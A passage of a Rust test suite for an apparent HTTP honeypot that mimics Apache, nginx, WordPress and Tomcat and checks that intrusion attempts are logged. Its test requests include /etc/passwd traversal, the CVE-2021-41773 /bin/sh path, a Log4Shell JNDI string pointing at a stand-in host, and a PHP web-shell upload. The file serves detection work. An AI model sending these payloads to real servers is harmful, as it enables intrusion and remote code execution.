//! The http decoy over a real socket, and against a real nginx.
//!
//! The controls are Debian's nginx and Apache on 127.x addresses of their own; where one is not installed, or nginx is of another
//! version than the persona's, the comparison says so and is skipped.
#![cfg(feature = "serve")]
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "in a test a panic is the report"
)]

#[path = "support/machine.rs"]
mod machine;
mod support;

use std::{
    collections::BTreeMap,
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    time::Duration,
};

use decnet_control::{Product, Words};
use decnet_decoys::{catalogue, http::request};
use decnet_persona::{Distro, Persona, PersonaSpec, ProductKind, Seed};
use support::start;
use tokio::io::AsyncWriteExt as _;

/// A persona of `distro` whose web server is `product`: the first seed that draws it.
fn persona(distro: Distro, product: &str) -> PersonaSpec {
    (0..64_u8)
        .map(|n| PersonaSpec {
            distro: Some(distro),
            ..PersonaSpec::new(Seed::from_bytes([n; 16]), "web-server")
        })
        .find(|spec| Persona::derive(spec).unwrap().product(ProductKind::Web).name == product)
        .unwrap()
}

/// Send `raw`, say that nothing more comes, and read to the end.
fn ask(address: SocketAddr, raw: &[u8]) -> Vec<u8> {
    let mut stream = TcpStream::connect(address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    stream.write_all(raw).unwrap();
    stream.shutdown(std::net::Shutdown::Write).unwrap();
    let mut answer = Vec::new();
    // A reset after the last byte ends an answer as well as a close does.
    let _reset_is_an_end = stream.read_to_end(&mut answer);
    answer
}

fn text(address: SocketAddr, raw: &str) -> String {
    String::from_utf8_lossy(&ask(address, raw.as_bytes())).into_owned()
}

/// Status line, header names in order with the values that two machines share, and the body of an error.
fn shape(answer: &[u8]) -> String {
    let text = String::from_utf8_lossy(answer);
    if let Some(rest) = text.strip_prefix("HTTP/1.1 100 Continue\r\n\r\n") {
        return format!("HTTP/1.1 100 Continue\n{}", shape(rest.as_bytes()));
    }
    let Some((head, body)) = text.split_once("\r\n\r\n") else {
        return format!("no head, a page: {}", text.starts_with("<!DOCTYPE html>"));
    };
    if let Some((_, boundary)) = head.split_once("boundary=") {
        // Several parts: the boundary is the process's own, the length the page's.
        let boundary = boundary.split("\r\n").next().unwrap();
        let place = if boundary.len() == 16 {
            "BOUNDARY-OF-16"
        } else {
            "BOUNDARY"
        };
        let mut body = body.replace(boundary, place);
        if let Some((_, tail)) = body.split_once("0-0/") {
            let whole: String = tail.chars().take_while(char::is_ascii_digit).collect();
            body = body.replace(&format!("/{whole}\r"), "/…\r");
        }
        let head = head.replace(&format!("boundary={boundary}"), place);
        return format!("{}\n{body}", shape(format!("{head}\r\n\r\n").as_bytes()));
    }
    let error = !head.starts_with("HTTP/1.1 20") && !head.starts_with("HTTP/1.1 304");
    let mut lines = head.split("\r\n");
    let mut out = lines.next().unwrap_or_default().to_owned();
    for line in lines {
        let (name, value) = line.split_once(": ").unwrap_or((line, ""));
        let own = match name {
            "Date" | "Last-Modified" | "ETag" | "Content-Range" => true,
            "Content-Length" => !error,
            _ => false,
        };
        out.push_str(&format!("\n{name}: {}", if own { "…" } else { value }));
    }
    if error {
        out.push_str("\n\n");
        out.push_str(body);
    }
    out
}

const TRANSCRIPT: &[&str] = &[
    "GET / HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.0\r\n\r\n",
    "GET /\r\n",
    "GET / HTTP/1337\r\nHost: a\r\n\r\n",
    "GET / HTTP/2.0\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.9\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\n\r\n",
    "HEAD / HTTP/1.1\r\nHost: a\r\n\r\n",
    "OPTIONS / HTTP/1.1\r\nHost: a\r\n\r\n",
    "TRACE / HTTP/1.1\r\nHost: a\r\n\r\n",
    "FOO / HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
    "PUT /x HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
    "DELETE / HTTP/1.1\r\nHost: a\r\n\r\n",
    "CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /nope HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /%2e%2e%2f%2e%2e%2fetc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /a/../ HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /%00 HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /%zz HTTP/1.1\r\nHost: a\r\n\r\n",
    "garbage\r\n\r\n",
    "\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nRange: bytes=0-9\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nIf-None-Match: *\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nIf-Modified-Since: Fri, 01 Jan 2100 00:00:00 GMT\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: foo\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a/b\r\n\r\n",
    "GET http://b/ HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nbad header\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nContent-Length: x\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
    "GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
    "\u{16}\u{3}\u{1}",
    "get / HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET  / HTTP/1.1 \r\nHost: a\r\n\r\n",
    "GET x HTTP/1.1\r\nHost: a\r\n\r\n",
    "OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /wp-content HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /wp-content/ HTTP/1.1\r\nHost: a\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\n\r\nHEAD / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\n\r\n",
    "HEAD / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: deflate, gzip;q=0.5\r\n\r\n",
    "GET / HTTP/1.0\r\nAccept-Encoding: gzip\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip;q=0\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: *\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\nVia: 1.1 b\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\nRange: bytes=0-9\r\n\r\n",
    "GET /robots.txt HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nRange: bytes=99999-\r\n\r\n",
    "POST /nope HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nExpect: 100-continue\r\n\r\nabc",
    "GET / HTTP/1.1\r\nHost: a\r\nExpect: no<pe\r\n\r\n",
    "GET / HTTP/1.0\r\nExpect: nope\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nExpect: nope\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n",
    // A body that never comes: who is refused learns it without sending it.
    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 2000000\r\nExpect: 100-continue\r\n\r\n",
];

/// Several parts of a page. Apache says `Vary` with them, too, and gives the whole where one of them lies outside: ours does not.
const IN_PARTS: &[&str] = &[
    "GET / HTTP/1.1\r\nHost: a\r\nRange: bytes=0-0,2-2\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nRange: bytes=0-0, 99999-\r\n\r\n",
];

/// What Debian's configuration of Apache answers by itself.
const OF_APACHE: &[&str] = &[
    "GET /.htaccess HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST /.htpasswd HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
    "DELETE /.htaccess/x HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /nope/.htaccess HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /icons/ HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /icons HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /icons/small/ HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /server-status HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /server-status?auto HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /server-statuses HTTP/1.1\r\nHost: a\r\n\r\n",
];

#[test]
fn a_page_is_the_same_file_by_both_of_its_names() {
    for product in ["Apache", "nginx"] {
        let site = start("http", persona(Distro::Debian12, product), &[("site", "company")]);
        let tags = |path: &str| -> Vec<String> {
            let answer = text(site.address, &format!("GET {path} HTTP/1.1\r\nHost: a\r\n\r\n"));
            let own = |line: &&str| line.starts_with("ETag") || line.starts_with("Last-Modified");
            answer.lines().filter(own).map(str::to_owned).collect()
        };
        assert_eq!(tags("/").len(), 2);
        assert_eq!(tags("/"), tags("/index.html"), "{product}");
    }
}

#[test]
fn an_exploit_is_told_by_its_request_line_alone() {
    let site = start("http", persona(Distro::Debian12, "Apache"), &[]);
    let line = "GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1";
    text(site.address, &format!("{line}\r\nHost: a\r\nX: y\r\n\r\n"));
    let told = site.lines.wait(&["exploit_attempt", "CVE-2021-41773"]);
    assert!(
        told.contains("/bin/sh") && !told.contains("Host") && !told.contains("\\x0"),
        "{told}"
    );
}

/// An answer of Apache without what differs between its releases of one series and between two processes of one release: the
/// patch level, the page's document type (changed after 2.4.62) and so its length, the order of methods, the port, and what a
/// 304 repeats (changed after 2.4.62).
fn apache_shape(answer: &[u8], port: u16) -> String {
    let mut out = String::new();
    let unchanged = answer.starts_with(b"HTTP/1.1 304");
    for line in shape(answer).lines() {
        let (name, value) = line.split_once(": ").unwrap_or((line, ""));
        let line = match name {
            "Last-Modified" | "Accept-Ranges" if unchanged => continue,
            // A file that is as new as the request has a weak tag and no other difference.
            "Content-Length" => "Content-Length: …".to_owned(),
            "Allow" => {
                let mut methods: Vec<&str> = value.split(',').collect();
                methods.sort_unstable();
                format!("Allow: {}", methods.join(","))
            }
            _ if line.starts_with("<!DOCTYPE") => "<!DOCTYPE …>".to_owned(),
            // The length of a chunk.
            _ if line.len() == 3 && u16::from_str_radix(line, 16).is_ok() => "…".to_owned(),
            _ => line.replace(&format!("Port {port}"), "Port …"),
        };
        let line = match line.split_once("Apache/2.4.") {
            Some((before, after)) => {
                let after = after.trim_start_matches(|c: char| c.is_ascii_digit());
                format!("{before}Apache/2.4.…{after}")
            }
            None => line,
        };
        out.push_str(&line.replace(&format!(":{port}/"), ":…/"));
        out.push('\n');
    }
    out
}

#[test]
fn the_same_transcript_looks_as_apache_answers_it() {
    let spec = persona(Distro::Debian12, "Apache");
    let fqdn = Persona::derive(&spec).unwrap().fqdn();
    let words = Words {
        host: &fqdn,
        ..Words::default()
    };
    let Some(apache) = support::control(Product::Apache, "2.4.", words) else {
        return;
    };
    let control = apache.address();
    let site = start("http", spec, &[("site", "company")]);
    let mut different = String::new();
    let long = format!(
        "GET / HTTP/1.1\r\nHost: a\r\nX-Long: {}\r\n\r\n",
        "a".repeat(8300)
    );
    for raw in TRANSCRIPT.iter().chain(OF_APACHE).copied().chain([long.as_str()]) {
        let (real, ours) = (
            apache_shape(&ask(control, raw.as_bytes()), control.port()),
            apache_shape(&ask(site.address, raw.as_bytes()), site.address.port()),
        );
        if real != ours {
            let raw = raw.get(..200).unwrap_or(raw);
            different.push_str(&format!("=== {raw:?}\n--- apache\n{real}\n--- ours\n{ours}\n"));
        }
    }
    assert!(different.is_empty(), "{different}");
}

#[test]
fn a_transcript_of_forty_requests_looks_as_nginx_answers_it() {
    let Some(nginx) = support::control(Product::Nginx, "1.22.1", Words::default()) else {
        return;
    };
    let control = nginx.address();
    let site = start("http", persona(Distro::Debian12, "nginx"), &[("site", "company")]);
    let mut different = String::new();
    for raw in TRANSCRIPT.iter().chain(IN_PARTS) {
        let seen = |at: SocketAddr| {
            let shown = shape(&ask(at, raw.as_bytes()));
            shown.replace(&format!(":{}/", at.port()), ":…/")
        };
        let (real, ours) = (seen(control), seen(site.address));
        if real != ours {
            different.push_str(&format!("=== {raw:?}\n--- nginx\n{real}\n--- ours\n{ours}\n"));
        }
    }
    assert!(different.is_empty(), "{different}");
}

#[test]
fn apache_answers_in_its_own_order_with_its_signature() {
    let site = start(
        "http",
        persona(Distro::Debian12, "Apache"),
        &[("site", "default")],
    );
    let page = text(
        site.address,
        "GET / HTTP/1.1\r\nHost: a\r\nConnection: keep-alive\r\n\r\n",
    );
    let names: Vec<&str> = page
        .split("\r\n\r\n")
        .next()
        .unwrap()
        .lines()
        .skip(1)
        .filter_map(|line| line.split(": ").next())
        .collect();
    assert_eq!(
        names,
        [
            "Date",
            "Server",
            "Last-Modified",
            "ETag",
            "Accept-Ranges",
            "Content-Length",
            "Vary",
            "Keep-Alive",
            "Connection",
            "Content-Type"
        ]
    );
    assert!(page.contains("Apache2 Debian Default Page") && page.contains("Server: Apache/2.4."));
    let missing = text(site.address, "GET /<x> HTTP/1.1\r\nHost: www.example.org\r\n\r\n");
    assert!(
        missing
            .contains("<p>The requested URL was not found on this server.</p>\n<hr>\n<address>Apache/2.4.")
    );
    let signature = format!("Server at www.example.org Port {}</address>", site.address.port());
    assert!(missing.contains(&signature), "{missing}");
    for (raw, status) in [
        ("GET / HTTP/1337\r\nHost: a\r\n\r\n", "HTTP/1.1 400 Bad Request"),
        (
            "FOO / HTTP/1.1\r\nHost: a\r\n\r\n",
            "HTTP/1.1 501 Not Implemented",
        ),
        (
            "PUT /x HTTP/1.1\r\nHost: a\r\n\r\n",
            "HTTP/1.1 405 Method Not Allowed",
        ),
        ("OPTIONS / HTTP/1.1\r\nHost: a\r\n\r\n", "HTTP/1.1 200 OK"),
        ("GET /%2f HTTP/1.1\r\nHost: a\r\n\r\n", "HTTP/1.1 404 Not Found"),
        ("POST / HTTP/1.1\r\nHost: a\r\n\r\n", "HTTP/1.1 200 OK"),
    ] {
        let answer = text(site.address, raw);
        assert!(answer.starts_with(status), "{raw:?}: {answer}");
    }
}

#[test]
fn default_pages_are_those_of_the_packages_to_the_byte() {
    for (distro, product, length, words) in [
        (Distro::Debian12, "nginx", 615, "<title>Welcome to nginx!</title>"),
        (Distro::Debian11, "nginx", 612, "<title>Welcome to nginx!</title>"),
        (
            Distro::Debian12,
            "Apache",
            10_701,
            "<title>Apache2 Debian Default Page: It works</title>",
        ),
    ] {
        let site = start("http", persona(distro, product), &[("site", "default")]);
        let page = text(site.address, "GET / HTTP/1.0\r\n\r\n");
        let (head, body) = page.split_once("\r\n\r\n").unwrap();
        assert!(
            head.contains(&format!("Content-Length: {length}")) && body.len() == length,
            "{product}: {head}"
        );
        assert!(body.contains(words), "{product}: {body}");
    }
}

#[test]
fn logins_uploads_and_exploits_are_reported() {
    let site = start(
        "http",
        persona(Distro::Debian12, "nginx"),
        &[("site", "wordpress"), ("accept", "after_2")],
    );
    let login = |password: &str| {
        let form = format!("log=admin&pwd={password}");
        let length = form.len();
        text(
            site.address,
            &format!(
                "POST /wp-login.php HTTP/1.1\r\nHost: a\r\nUser-Agent: probe/1.0\r\nContent-Type: \
                 application/x-www-form-urlencoded\r\nContent-Length: {length}\r\n\r\n{form}"
            ),
        )
    };
    assert!(login("first").contains("for the username <strong>admin</strong> is incorrect."));
    let inside = login("second");
    assert!(inside.starts_with("HTTP/1.1 302"), "{inside}");
    let cookie = inside
        .lines()
        .find_map(|line| line.strip_prefix("Set-Cookie: wordpress_logged_in_"))
        .and_then(|line| line.split(';').next())
        .unwrap();
    let admin = format!("GET /wp-admin/ HTTP/1.1\r\nHost: a\r\nCookie: wordpress_logged_in_{cookie}\r\n\r\n");
    assert!(text(site.address, &admin).contains("Howdy, <span class=\"display-name\">admin</span>"));
    site.lines.wait(&[
        "auth_attempt",
        "principal=\"admin\"",
        "secret_printable=\"first\"",
        "refused",
    ]);
    site.lines
        .wait(&["auth_attempt", "secret_printable=\"second\"", "accepted"]);
    site.lines.wait(&["client_info", "probe/1.0"]);
    site.lines
        .wait(&["request", "path=\"/wp-login.php\"", "status=\"302\""]);

    text(
        site.address,
        "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nHost: a\r\n\r\n",
    );
    site.lines.wait(&["exploit_attempt", "CVE-2021-44228"]);
    text(
        site.address,
        "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: a\r\n\r\n",
    );
    site.lines.wait(&["exploit_attempt", "CVE-2021-41773"]);

    text(
        site.address,
        "PUT /../x.php HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
    );
    text(
        site.address,
        "PUT /shell.php HTTP/1.1\r\nHost: a\r\nContent-Length: 14\r\n\r\n<?php evil();>",
    );
    site.lines.wait(&["file_captured", "via=\"put\"", "shell.php"]);
    assert_eq!(site.kept().len(), 2, "the file and its description");
}

/// Head and body of what `raw` is answered.
fn halves(address: SocketAddr, raw: &str) -> (String, String) {
    let answer = text(address, raw);
    let (head, body) = answer.split_once("\r\n\r\n").unwrap();
    (head.to_owned(), body.to_owned())
}

/// `path` of a host `a`, over HTTP/1.0 so that no body comes in chunks.
fn got(address: SocketAddr, path: &str) -> (String, String) {
    got_of(address, "a", path)
}

/// The same of another host.
fn got_of(address: SocketAddr, host: &str, path: &str) -> (String, String) {
    halves(address, &format!("GET {path} HTTP/1.0\r\nHost: {host}\r\n\r\n"))
}

#[test]
fn wordpress_answers_as_its_programs_do_and_not_as_a_file() {
    for product in ["Apache", "nginx"] {
        let spec = persona(Distro::Debian12, product);
        let name = Persona::derive(&spec).unwrap().fqdn();
        let home = format!("http://{name}");
        let site = start("http", spec, &[("site", "wordpress")]);
        let (head, front) = got(site.address, "/");
        assert!(head.starts_with("HTTP/1.1 200 OK"), "{product}: {head}");
        assert!(!head.contains("ETag") && !head.contains("Last-Modified") && !head.contains("Accept-Ranges"));
        for line in [
            "Content-Type: text/html; charset=UTF-8",
            &format!("Link: <{home}/wp-json/>; rel=\"https://api.w.org/\""),
        ] {
            assert!(head.contains(line), "{product}: {head}");
        }
        assert!(
            front.contains("<meta name=\"generator\" content=\"WordPress 6."),
            "{front}"
        );
        assert!(
            front.contains("class=\"post-") && front.contains(&format!("href=\"{home}/feed/\"")),
            "{front}"
        );

        // Whatever the page links is there.
        for link in front.split("href=").skip(1).filter_map(|rest| {
            let quote = rest.chars().next()?;
            rest.get(1..)?.split(quote).next()
        }) {
            let path = link.strip_prefix(&home).unwrap();
            let (head, _) = got(site.address, path);
            assert!(head.starts_with("HTTP/1.1 200"), "{product}: {path}: {head}");
        }
        let (head, sheet) = got(site.address, front_sheet(&front, &home));
        assert!(
            head.contains("ETag") && head.contains("Content-Type: text/css"),
            "{head}"
        );
        assert!(sheet.starts_with("/*\nTheme Name: "), "{sheet}");

        let (head, index) = got(site.address, "/wp-json/");
        assert!(
            head.contains("Content-Type: application/json; charset=UTF-8"),
            "{head}"
        );
        assert!(head.contains("X-Robots-Tag: noindex"), "{head}");
        let index: serde_json::Value = serde_json::from_str(&index).unwrap();
        assert_eq!(index["home"], *home);
        assert!(index["namespaces"].as_array().unwrap().contains(&"wp/v2".into()));
        let (head, users) = got(site.address, "/?rest_route=/wp/v2/users");
        assert!(head.contains("X-WP-Total: 1"), "{head}");
        let users: serde_json::Value = serde_json::from_str(&users).unwrap();
        let author = format!("/author/{}/", users[0]["slug"].as_str().unwrap());
        let (head, _) = got(site.address, "/?author=1");
        assert!(
            head.starts_with("HTTP/1.1 301")
                && head.contains(&format!("Location: http://a{author}"))
                && head.contains("X-Redirect-By: WordPress"),
            "{head}"
        );
        assert!(got(site.address, &author).0.starts_with("HTTP/1.1 200"));
        let (_, posts) = got(site.address, "/wp-json/wp/v2/posts");
        let posts: serde_json::Value = serde_json::from_str(&posts).unwrap();
        let link = posts[0]["link"].as_str().unwrap().strip_prefix(&home).unwrap();
        assert!(got(site.address, link).0.starts_with("HTTP/1.1 200"), "{link}");
        let (head, fault) = got(site.address, "/wp-json/none");
        assert!(
            head.starts_with("HTTP/1.1 404") && fault.contains("\"code\":\"rest_no_route\""),
            "{fault}"
        );

        let (head, feed) = got(site.address, "/feed/");
        assert!(
            head.contains("Content-Type: application/rss+xml; charset=UTF-8"),
            "{head}"
        );
        assert!(
            feed.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\""),
            "{feed}"
        );
        assert!(
            feed.contains("<item>") && feed.contains("<generator>https://wordpress.org/?v=6."),
            "{feed}"
        );
        assert_eq!(feed.matches("<item>").count(), feed.matches("</item>").count());

        let (head, page) = got(site.address, "/no-such-page/");
        assert!(
            head.starts_with("HTTP/1.1 404") && head.contains("Expires: Wed, 11 Jan 1984"),
            "{head}"
        );
        assert!(page.contains("<title>Page not found &#8211; "), "{page}");
        let (_, page) = got(site.address, "/shell.php");
        assert_eq!(page == "File not found.\n", product == "nginx", "{page}");
    }
}

#[test]
fn what_wordpress_lists_is_there_and_what_says_nothing_says_nothing() {
    for product in ["Apache", "nginx"] {
        let spec = persona(Distro::Debian12, product);
        let home = format!("http://{}", Persona::derive(&spec).unwrap().fqdn());
        let site = start("http", spec, &[("site", "wordpress")]);
        let json = |path: &str| -> (String, serde_json::Value) {
            let (head, body) = got(site.address, path);
            (head, serde_json::from_str(&body).unwrap())
        };
        let (_, index) = json("/wp-json/");
        let namespaces = index["namespaces"].as_array().unwrap().iter();
        let namespaces = namespaces.map(|name| format!("/{}", name.as_str().unwrap()));
        let routes = index["routes"].as_object().unwrap().keys().cloned();
        let listed: Vec<String> = namespaces.chain(routes).collect();
        assert!(listed.contains(&"/wp/v2/categories".to_owned()) && listed.len() > 15);
        for route in &listed {
            let (head, told) = json(&format!("/wp-json{route}"));
            assert!(
                !head.starts_with("HTTP/1.1 404") && told["code"] != "rest_no_route",
                "{product}: {route}: {told}"
            );
        }
        let (_, v2) = json("/wp-json/wp/v2");
        assert!(v2["routes"]["/wp/v2/posts"].is_object() && v2["routes"]["/oembed/1.0"].is_null());
        let (_, posts) = json("/wp-json/wp/v2/posts");
        let count = posts.as_array().unwrap().len();
        assert!(count > 1, "{posts}");
        let (head, second) = json("/wp-json/wp/v2/posts?per_page=1&page=2");
        assert_eq!(second[0]["id"], posts[1]["id"]);
        let pages = format!("X-WP-TotalPages: {count}");
        assert!(head.lines().any(|line| line == pages), "{head}");
        for (path, code) in [
            ("/wp-json/wp/v2/posts?page=9", "rest_post_invalid_page_number"),
            ("/wp-json/wp/v2/posts?per_page=101", "rest_invalid_param"),
            ("/wp-json/wp/v2/users?page=0", "rest_invalid_param"),
            ("/?rest_route=/oembed/1.0/embed", "rest_missing_callback_param"),
        ] {
            let (head, told) = json(path);
            assert!(head.starts_with("HTTP/1.1 400"), "{path}: {head}");
            assert_eq!(told["code"], code, "{path}");
        }
        let (head, nobody) = json("/wp-json/wp/v2/users?page=9");
        assert!(
            nobody == serde_json::json!([]) && head.contains("X-WP-Total: 1"),
            "{head}"
        );

        let (_, robots) = got(site.address, "/robots.txt");
        let map = robots
            .lines()
            .find_map(|line| line.strip_prefix("Sitemap: "))
            .unwrap();
        let mut maps = vec![map.strip_prefix(&home).unwrap().to_owned()];
        let mut told = 0;
        while let Some(path) = maps.pop() {
            let (head, map) = got(site.address, &path);
            assert!(head.starts_with("HTTP/1.1 200"), "{path}: {head}");
            if !path.ends_with("xml") {
                continue;
            }
            assert!(
                head.contains("Content-Type: application/xml; charset=UTF-8"),
                "{head}"
            );
            let places = map.split("<loc>").skip(1).map(|rest| rest.split("</loc>").next());
            let sheet = map.split("href=\"").nth(1).map(|rest| rest.split('"').next());
            maps.extend(
                places
                    .chain(sheet)
                    .map(|url| url.unwrap().strip_prefix(&home).unwrap().to_owned()),
            );
            told += 1;
        }
        assert_eq!(told, 5);

        for path in [
            "/wp-content/",
            "/wp-content/plugins/",
            "/wp-includes/version.php",
            "/wp-config.php",
        ] {
            let (head, body) = got(site.address, path);
            assert!(
                head.starts_with("HTTP/1.1 200") && head.contains("Content-Type: text/html; charset=UTF-8"),
                "{product}: {path}: {head}"
            );
            assert_eq!(body, "", "{path}");
        }
        for (path, status) in [
            ("/wp-content", 301),
            ("/wp-includes/", 403),
            ("/?author=2", 404),
            // One who tidies up takes both away.
            ("/readme.html", 404),
            ("/license.txt", 404),
        ] {
            let (head, _) = got(site.address, path);
            assert!(head.starts_with(&format!("HTTP/1.1 {status}")), "{path}: {head}");
        }
    }
}

#[test]
fn the_blog_is_at_home_at_its_own_name_or_address_whatever_else_it_is_asked_for_by() {
    let spec = persona(Distro::Debian12, "nginx");
    let name = Persona::derive(&spec).unwrap().fqdn();
    let site = start("http", spec, &[("site", "wordpress")]);
    for path in [
        "/",
        "/feed/",
        "/wp-json/",
        "/robots.txt",
        "/wp-login.php",
        "/wp-sitemap.xml",
    ] {
        let (head, body) = got_of(site.address, "evil.example", path);
        assert!(head.starts_with("HTTP/1.1 200"), "{path}: {head}");
        assert!(
            !head.contains("evil.example") && !body.contains("evil.example"),
            "{path}: {head}\n{body}"
        );
        assert!(body.contains(&name), "{path}: {body}");
    }
    let (_, front) = got_of(site.address, "192.0.2.7", "/");
    assert!(front.contains("href=\"http://192.0.2.7/feed/\""), "{front}");

    let (head, _) = got_of(site.address, &format!("WWW.{name}"), "/feed/?x=1");
    let led = format!("Location: http://{name}/feed/?x=1");
    assert!(
        head.starts_with("HTTP/1.1 301") && head.lines().any(|line| line == led),
        "{head}"
    );
    let (head, _) = got_of(site.address, "other.example", "/feed");
    assert!(head.contains("Location: http://other.example/feed/"), "{head}");
}

fn front_sheet<'a>(front: &'a str, home: &str) -> &'a str {
    let (_, rest) = front.split_once(&format!("href='{home}")).unwrap();
    rest.split('\'').next().unwrap()
}

#[test]
fn xmlrpc_of_wordpress_answers_each_call_as_it_does() {
    let site = start(
        "http",
        persona(Distro::Debian12, "nginx"),
        &[("site", "wordpress")],
    );
    let call = |body: &str| {
        let length = body.len();
        halves(
            site.address,
            &format!("POST /xmlrpc.php HTTP/1.0\r\nHost: a\r\nContent-Length: {length}\r\n\r\n{body}"),
        )
    };
    let method = |name: &str, params: &str| {
        call(&format!(
            "<?xml version=\"1.0\"?><methodCall><methodName>{name}</methodName><params>{params}</params></methodCall>"
        ))
    };
    let (head, all) = method("system.listMethods", "");
    assert!(head.contains("Content-Type: text/xml; charset=UTF-8"), "{head}");
    assert!(
        all.contains("<value><string>wp.getUsersBlogs</string></value>"),
        "{all}"
    );
    assert!(method("demo.sayHello", "").1.contains("<string>Hello!</string>"));
    let login =
        "<param><value><string>eva</string></value></param><param><value><string>x</string></value></param>";
    let (_, refused) = method("wp.getUsersBlogs", login);
    assert!(
        refused.contains("<int>403</int>") && refused.contains("Incorrect username or password."),
        "{refused}"
    );
    site.lines.wait(&[
        "auth_attempt",
        "principal=\"eva\"",
        "mechanism=\"xmlrpc\"",
        "refused",
    ]);
    let (_, unknown) = method("wp.<b>", "");
    assert!(
        unknown.contains("<int>-32601</int>")
            && unknown.contains("requested method wp.&lt;b&gt; does not exist."),
        "{unknown}"
    );
    assert!(call("nonsense").1.contains("<int>-32700</int>"));
    assert!(got(site.address, "/xmlrpc.php").0.starts_with("HTTP/1.1 405"));
}

#[test]
fn tomcat_answers_through_the_server_without_reasons() {
    for product in ["Apache", "nginx"] {
        let spec = persona(Distro::Debian12, product);
        let site = start("http", spec, &[("site", "tomcat")]);
        let (head, front) = got(site.address, "/");
        let mut lines = head.lines();
        assert_eq!(lines.next(), Some("HTTP/1.1 200 "), "{product}");
        assert!(
            head.contains("Content-Type: text/html;charset=UTF-8") && !head.contains("ETag"),
            "{head}"
        );
        assert!(
            head.contains(&format!("Content-Length: {}", front.len())),
            "{head}"
        );
        assert!(front.contains("Apache Tomcat/9.0."), "{front}");
        let (head, missing) = got(site.address, "/<x>?y");
        assert!(
            head.starts_with("HTTP/1.1 404 \r\n") && head.contains("Content-Language: en"),
            "{head}"
        );
        assert!(
            missing.contains("The requested resource [&#47;&lt;x&gt;] is not available")
                && missing.contains("<title>HTTP Status 404 \u{2013} Not Found</title>"),
            "{missing}"
        );
        let (head, _) = got(site.address, "/manager");
        assert!(
            head.starts_with("HTTP/1.1 302 \r\n") && head.contains("Location: /manager/"),
            "{head}"
        );
        let (head, _) = got(site.address, "/manager/");
        assert!(
            head.contains("Location: /manager/html") && head.contains("X-Frame-Options: DENY"),
            "{head}"
        );
        let (head, _) = halves(site.address, "DELETE /x HTTP/1.0\r\nHost: a\r\n\r\n");
        assert!(
            head.starts_with("HTTP/1.1 405 \r\n") && head.contains("Allow: GET, HEAD, POST, OPTIONS"),
            "{head}"
        );
        let (head, _) = got(site.address, "/host-manager/html");
        assert!(
            head.contains("Basic realm=\"Tomcat Host Manager Application\""),
            "{head}"
        );
